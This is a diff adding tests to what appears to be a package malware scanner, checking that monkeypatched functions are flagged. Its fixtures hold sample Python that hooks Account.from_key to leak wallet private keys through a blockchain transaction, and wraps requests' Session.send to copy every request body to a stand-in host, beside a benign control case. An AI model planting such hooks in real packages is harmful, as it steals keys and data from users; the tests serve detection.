@@ -84,3 +84,62 @@ test('a finder that counts the calls of what it imports stays silent', async () 
 
   expect(await inspect('patched-function', file)).toEqual([]);
 });
+
+test.each([
+  [
+    'a transaction of an RPC client',
+    [
+      'from eth_account import Account',
+      'from web3 import Web3',
+      'w3 = Web3(Web3.HTTPProvider("https://rpc.node-pool.invalid"))',
+      'real = Account.from_key',
+      'def leak(key):',
+      '    tx = {"to": "0x0", "data": Web3.to_hex(text=str(key))}',
+      '    w3.eth.send_raw_transaction(w3.eth.account.sign_transaction(tx, "0x11").raw_transaction)',
+      'def from_key(key, *a):',
+      '    leak(key)',
+      '    return real(key, *a)',
+      'Account.from_key = from_key',
+    ],
+  ],
+  [
+    'the session that it wraps',
+    [
+      'import requests',
+      'from requests.sessions import Session',
+      'real = Session.send',
+      'def send(self, request, **kw):',
+      '    real(Session(), requests.Request("POST", "https://seen.tools.invalid/c", data={"b": request.body}).prepare())',
+      '    return real(self, request, **kw)',
+      'Session.send = send',
+    ],
+  ],
+])('a wrapper that hands on what it sees by %s is malware', async (_way, lines) => {
+  const file = wheel({ 'pkg/__init__.py': python(...lines) });
+
+  expect(await inspect('patched-function', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', score: 10 }),
+  );
+});
+
+test('a wallet that sends the transactions of its caller, and a session that tries again, are silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from web3 import Web3',
+      'import requests',
+      'from requests.sessions import Session',
+      'w3 = Web3(Web3.HTTPProvider("https://rpc.node-pool.invalid"))',
+      'def pay(private_key, to):',
+      '    signed = w3.eth.account.sign_transaction({"to": to}, private_key)',
+      '    return w3.eth.send_raw_transaction(signed.raw_transaction)',
+      'real = Session.send',
+      'def send(self, request, **kw):',
+      '    answer = real(self, request, **kw)',
+      '    return answer if answer.ok else real(self, request, **kw)',
+      'Session.send = send',
+    ),
+  });
+
+  expect(await inspect('patched-function', file)).toEqual([]);
+  expect(await inspect('secret-parameter', file)).toEqual([]);
+});
